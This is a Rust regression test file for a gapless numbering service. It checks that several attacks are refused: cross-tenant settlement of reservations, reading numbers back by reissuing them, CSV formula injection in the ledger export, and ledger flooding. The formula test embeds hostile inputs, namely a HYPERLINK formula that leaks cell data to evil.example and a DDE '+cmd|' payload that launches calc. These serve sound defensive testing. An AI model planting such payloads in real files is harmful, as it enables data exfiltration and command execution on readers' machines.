//! Attacks on gapless series (issue 52), each as an attacker made it on the release before:
//! settling another caller's reservation (anonymously, or with another token), reading a key's
//! number back by issuing it again, planting a spreadsheet formula in the CSV export, and
//! flooding a series until the cluster's ledger is full. Each succeeded before; each must now
//! be refused, and nothing it asked for may happen.
use leaf_api::gapless::{GaplessOptions, IssuedNumber, NumberState};
use leaf_api::profile::Profile;
use leaf_api::tokens::{CreateTokenRequest, Right, TagPattern};
use leaf_api::types::{CreateTagRequest, UpdateTagRequest};
use leaf_api::ErrorCode;
use leaf_client::{Client, ClientError, Method};
use serde_json::json;
use tempfile::TempDir;

use crate::support::{client, config, start, TOKEN};

/// A gapless series `tag` with these limits.
fn series(tag: &str, max_numbers: Option<u64>, issues_per_sec: Option<u32>) -> CreateTagRequest {
    CreateTagRequest {
        tag: tag.into(),
        step: 1,
        profile: Some(Profile::Gapless),
        gapless: Some(GaplessOptions { max_numbers, issues_per_sec, ..Default::default() }),
        ..Default::default()
    }
}

/// A node with the admin token (and `anonymous_gapless` as given), its admin client, and
/// clients of two tokens with the `ids` right on `inv-*`.
async fn tenants(dir: &TempDir, anonymous_gapless: bool) -> (leaf_node::NodeHandle, Client, Client, Client) {
    let mut cfg = leaf_node::Config { admin_token: Some(TOKEN.into()), ..config(dir) };
    cfg.auth.anonymous_gapless = anonymous_gapless;
    let (node, admin) = start(cfg).await;
    let url = format!("http://{}", node.http_addr());
    let mut tokens = Vec::new();
    for name in ["billing-a", "billing-b"] {
        let req = CreateTokenRequest {
            name: name.into(),
            rights: vec![Right::Ids],
            tags: vec![TagPattern::parse("inv-*").unwrap()],
            ..Default::default()
        };
        tokens.push(client(&url, Some(admin.create_token(&req).await.unwrap().bearer)));
    }
    let b = tokens.pop().unwrap();
    let a = tokens.pop().unwrap();
    (node, admin, a, b)
}

/// A POST of `body` to gapless `path` by `c`: the status, and the answer or the error body.
async fn post(c: &Client, path: &str, body: serde_json::Value) -> (u16, serde_json::Value) {
    let reply = c.raw(Method::POST, path, Some(bytes::Bytes::from(body.to_string()))).await.unwrap();
    (reply.status.as_u16(), serde_json::from_slice(&reply.body).unwrap())
}

/// The status and error code of a refused call.
fn refused(r: Result<IssuedNumber, ClientError>) -> (u16, ErrorCode, String) {
    match r {
        Err(ClientError::Api { status, code, message }) => (status.as_u16(), code, message),
        other => panic!("not refused: {other:?}"),
    }
}

/// The attack: a token scoped to `inv-*` reserved `k-A1` on `inv-a`; an anonymous void of it
/// answered 200 and the owner's confirm 409; another token's confirm answered 200; and anyone
/// read a key's number, state and time by reserving it again. Now only the reserver (or the
/// admin token) settles it, and anyone else gets 409 with nothing about the number.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_reserver_settles_or_reads_back_a_reservation() {
    let dir = TempDir::new().unwrap();
    let (node, admin, a, b) = tenants(&dir, false).await;
    let anonymous = client(&format!("http://{}", node.http_addr()), None);
    admin.create_tag(&series("inv-a", None, None)).await.unwrap();
    let mine = a.gapless("inv-a").reserve("k-A1", Some(3600)).await.unwrap();
    assert_eq!((mine.number, mine.state, mine.secret.as_deref()), (1, NumberState::Reserved, None));

    // An anonymous void: refused (gapless takes a token by default), nothing voided.
    let (status, e) = post(&anonymous, "/api/gapless/inv-a/void", json!({"key": "k-A1", "reason": "x"})).await;
    assert_eq!((status, e["code"].as_str()), (401, Some("unauthorized")), "{e}");
    // Another token: its confirm, its void, its repeat of the reservation and of an issue are
    // refused alike, and none says the number, its state or its time.
    for r in [
        b.gapless("inv-a").confirm("k-A1").await,
        b.gapless("inv-a").void("k-A1", "x").await,
        b.gapless("inv-a").reserve("k-A1", None).await,
        b.gapless("inv-a").issue("k-A1").await,
    ] {
        let (status, code, message) = refused(r);
        assert_eq!((status, code), (409, ErrorCode::NumberConflict), "{message}");
        for secret in ["reserved", "1 of", &mine.issued_ms.to_string(), "deadline"] {
            assert!(!message.contains(secret), "{message:?} tells {secret:?}");
        }
    }
    // The owner confirms, and repeats it.
    let confirmed = a.gapless("inv-a").confirm("k-A1").await.unwrap();
    assert_eq!((confirmed.number, confirmed.state, confirmed.replayed), (1, NumberState::Confirmed, false));
    assert!(a.gapless("inv-a").reserve("k-A1", None).await.unwrap().replayed);
    // The admin token settles anyone's reservation.
    a.gapless("inv-a").reserve("k-A2", Some(3600)).await.unwrap();
    let voided = admin.gapless("inv-a").void("k-A2", "duplicate order").await.unwrap();
    assert_eq!(voided.state, NumberState::Voided);
    let (entries, _) = admin.gapless("inv-a").ledger(None).await.unwrap();
    let states: Vec<_> = entries.iter().map(|e| (e.key.as_str(), e.state)).collect();
    assert_eq!(states, [("k-A1", NumberState::Confirmed), ("k-A2", NumberState::Voided)]);
    // A token's caller needs no settlement secret, but one it sends has the documented shape
    // (schemathesis found a malformed one accepted): 400, nothing reserved.
    for path in ["/api/gapless/inv-a/reserve", "/api/gapless/inv-a/issue"] {
        let (status, e) = post(&a, path, json!({"key": "k-A3", "secret": "not a secret!"})).await;
        assert_eq!((status, e["code"].as_str()), (400, Some("invalid_request")), "{path}: {e}");
    }
    let (entries, _) = admin.gapless("inv-a").ledger(None).await.unwrap();
    assert_eq!(entries.len(), 2, "a refused call reserved nothing");
    node.shutdown().await;
}

/// Where `auth.anonymous_gapless` lets callers without a token in, each of their numbers
/// belongs to a settlement secret: the one the reservation answered (or the caller chose).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_anonymous_reservation_is_settled_only_with_its_secret() {
    let dir = TempDir::new().unwrap();
    let (node, admin, a, _) = tenants(&dir, true).await;
    let anonymous = client(&format!("http://{}", node.http_addr()), None);
    admin.create_tag(&series("inv-a", None, None)).await.unwrap();
    let (status, first) = post(&anonymous, "/api/gapless/inv-a/reserve", json!({"key": "k-X"})).await;
    assert_eq!(status, 200, "{first}");
    let secret = first["secret"].as_str().expect("a secret for a caller without a token").to_string();
    assert!(secret.len() >= 22, "{secret}");

    // Without the secret, with another one, or with a token: refused.
    let (status, _) = post(&anonymous, "/api/gapless/inv-a/void", json!({"key": "k-X", "reason": "x"})).await;
    assert_eq!(status, 401);
    let wrong = "w".repeat(40);
    for path in ["/api/gapless/inv-a/reserve", "/api/gapless/inv-a/issue", "/api/gapless/inv-a/confirm"] {
        let (status, e) = post(&anonymous, path, json!({"key": "k-X", "secret": wrong})).await;
        assert_eq!((status, e["code"].as_str()), (409, Some("number_conflict")), "{path}: {e}");
        assert!(e.get("number").is_none() && !e.to_string().contains(&secret), "{e}");
    }
    let (status, code, _) = refused(a.gapless("inv-a").void("k-X", "x").await);
    assert_eq!((status, code), (409, ErrorCode::NumberConflict));
    // A secret is never echoed in a refusal, nor a malformed one accepted.
    let (status, e) = post(&anonymous, "/api/gapless/inv-a/confirm", json!({"key": "k-X", "secret": "short"})).await;
    assert_eq!(status, 400, "{e}");
    assert!(!e.to_string().contains("short"), "{e}");
    // With its secret: repeated, then confirmed.
    let (status, again) = post(&anonymous, "/api/gapless/inv-a/reserve", json!({"key": "k-X", "secret": secret})).await;
    assert_eq!((status, again["number"].as_u64(), again["replayed"].as_bool()), (200, Some(1), Some(true)));
    let (status, done) = post(&anonymous, "/api/gapless/inv-a/confirm", json!({"key": "k-X", "secret": secret})).await;
    assert_eq!((status, done["state"].as_str()), (200, Some("confirmed")), "{done}");
    // The token's reservation is not the anonymous caller's either, whatever secret it sends.
    a.gapless("inv-a").reserve("k-A1", Some(3600)).await.unwrap();
    let (status, _) =
        post(&anonymous, "/api/gapless/inv-a/void", json!({"key": "k-A1", "reason": "x", "secret": wrong})).await;
    assert_eq!(status, 409);
    node.shutdown().await;
}

/// The attack: a key (any caller chooses one) like `=HYPERLINK(...)` was written to
/// `leaf ledger export --csv` as it is, and a spreadsheet opening the file ran it. Now every
/// cell a spreadsheet would read as a formula is written as text, and the JSON export, which
/// `leaf ledger verify` checks, is unchanged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_a_key_or_a_reason_is_text_in_the_csv_export() {
    let dir = TempDir::new().unwrap();
    let (node, admin, a, _) = tenants(&dir, false).await;
    admin.create_tag(&series("inv-a", None, None)).await.unwrap();
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    a.gapless("inv-a").issue(evil).await.unwrap();
    a.gapless("inv-a").reserve("+cmd|' /C calc'!A0", Some(60)).await.unwrap();
    a.gapless("inv-a").void("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0").await.unwrap();
    a.gapless("inv-a").issue("-2+3").await.unwrap();

    let url = format!("http://{}", node.http_addr());
    let leaf = move |args: &'static [&'static str], stdin: String| {
        let url = url.clone();
        tokio::task::spawn_blocking(move || {
            use std::io::Write;
            let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_leaf"))
                .args(args)
                .env("LEAF_URL", &url)
                .env("LEAF_ADMIN_TOKEN", TOKEN)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
            let out = child.wait_with_output().unwrap();
            assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
            String::from_utf8(out.stdout).unwrap()
        })
    };
    let csv = leaf(&["ledger", "export", "inv-a", "--csv"], String::new()).await.unwrap();
    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "{csv}");
    assert!(csv.contains(r#""'+cmd|' /C calc'!A0""#), "{csv}");
    assert!(csv.contains(r#""'@SUM(1+1)*cmd|' /C calc'!A0""#), "{csv}");
    assert!(csv.contains(r#""'-2+3""#), "{csv}");
    // No cell of any line starts as a formula: split on commas outside quotes.
    for line in csv.lines().skip(1) {
        let mut quoted = false;
        let mut cell_start = true;
        for ch in line.chars() {
            if cell_start && !quoted {
                assert!(!"=+-@\t\r".contains(ch), "a cell starts with {ch:?} in {line}");
            }
            cell_start = false;
            match ch {
                '"' => quoted = !quoted,
                ',' if !quoted => cell_start = true,
                _ => {}
            }
        }
    }
    // The JSON export keeps the keys as they are, and verifies.
    let export = leaf(&["ledger", "export", "inv-a"], String::new()).await.unwrap();
    assert!(export.contains(&serde_json::to_string(evil).unwrap()), "{export}");
    let verified = leaf(&["ledger", "verify", "-"], export).await.unwrap();
    assert!(verified.starts_with("ok: 3 numbers"), "{verified}");
    node.shutdown().await;
}

/// The attack: one caller issued numbers until the cluster's ledger (a million numbers across
/// every series) was full, and each one stays in a regulated series for ever. Now each caller
/// takes at most its series' `issues_per_sec` on a node, each series at most its
/// `max_numbers`, and another series goes on issuing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_anonymous_flood_stops_at_the_series_limits_while_another_series_issues() {
    let dir = TempDir::new().unwrap();
    let (node, admin, a, _) = tenants(&dir, true).await;
    let url = format!("http://{}", node.http_addr());
    let anonymous = client(&url, None);
    admin.create_tag(&series("inv-flood", Some(40), Some(5))).await.unwrap();
    admin.create_tag(&series("inv-other", None, None)).await.unwrap();
    let info = admin.tag("inv-flood").await.unwrap();
    let g = info.gapless.unwrap();
    assert_eq!((g.max_numbers, g.issues_per_sec), (Some(40), Some(5)));

    // 30 issues at once from one address: its rate (5 a second, 5 at once) lets a few through.
    let flood: Vec<_> = (0..30)
        .map(|i| {
            let c = anonymous.clone();
            tokio::spawn(async move { c.gapless("inv-flood").issue(&format!("flood-{i}")).await })
        })
        .collect();
    let (mut issued, mut limited) = (0, 0);
    for t in flood {
        match t.await.unwrap() {
            Ok(_) => issued += 1,
            Err(e) if e.code() == Some(ErrorCode::RateLimited) => limited += 1,
            Err(e) => panic!("{e}"),
        }
    }
    assert!(issued >= 5 && limited >= 1 && issued + limited == 30, "{issued} issued, {limited} limited");
    // Another caller of the same series has its own rate.
    a.gapless("inv-flood").issue("tenant-1").await.unwrap();

    // With the rate raised, the flood stops at the cap, exactly.
    let raise = UpdateTagRequest { issues_per_sec: Some(1_000_000), ..Default::default() };
    admin.update_tag("inv-flood", &raise).await.unwrap();
    let mut i = 100;
    let full = loop {
        match anonymous.gapless("inv-flood").issue(&format!("flood-{i}")).await {
            Ok(_) => i += 1,
            Err(e) => break e,
        }
        assert!(i < 200, "the flood never stopped");
    };
    assert_eq!(full.code(), Some(ErrorCode::TagExhausted), "{full}");
    assert!(full.to_string().contains("max_numbers"), "{full}");
    let page = admin.gapless("inv-flood").ledger_page(&Default::default()).await.unwrap();
    assert_eq!(page.numbers, 40, "the cap, not one more");
    // A repeat is no new number: still answered.
    assert!(a.gapless("inv-flood").issue("tenant-1").await.unwrap().replayed);
    // The other series goes on, for the flooder too.
    assert_eq!(anonymous.gapless("inv-other").issue("fine-1").await.unwrap().number, 1);
    assert_eq!(a.gapless("inv-other").issue("fine-2").await.unwrap().number, 2);
    // The fullest series shows on /metrics at 1: what the alert fires on.
    let line = "leaf_gapless_series_fill_ratio{tag=\"inv-flood\"} 1.0";
    crate::support::eventually(&format!("{line:?} in /metrics"), std::time::Duration::from_secs(10), || async {
        let metrics = admin.metrics().await.unwrap();
        if metrics.lines().any(|l| l == line) {
            Ok(())
        } else {
            Err(metrics)
        }
    })
    .await;
    node.shutdown().await;
}
